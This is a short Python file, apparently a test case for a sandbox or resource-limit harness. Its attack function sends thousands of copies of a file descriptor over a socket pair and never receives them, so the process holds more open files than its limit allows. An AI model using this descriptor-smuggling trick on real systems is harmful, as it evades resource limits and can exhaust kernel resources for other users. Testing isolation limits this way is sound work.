"""Sends descriptors to itself and never takes them, so as to hold more open files than it may."""

import os
import socket


def attack(canary, port):
    ours, theirs = socket.socketpair()
    ours.setblocking(False)
    held, file = 0, os.open("/dev/null", os.O_RDONLY)
    try:
        while held < 20_000:
            socket.send_fds(ours, [b"x"], [file] * 50)
            held += 50
    except OSError:
        pass
    return [] if held < 20_000 else [held]
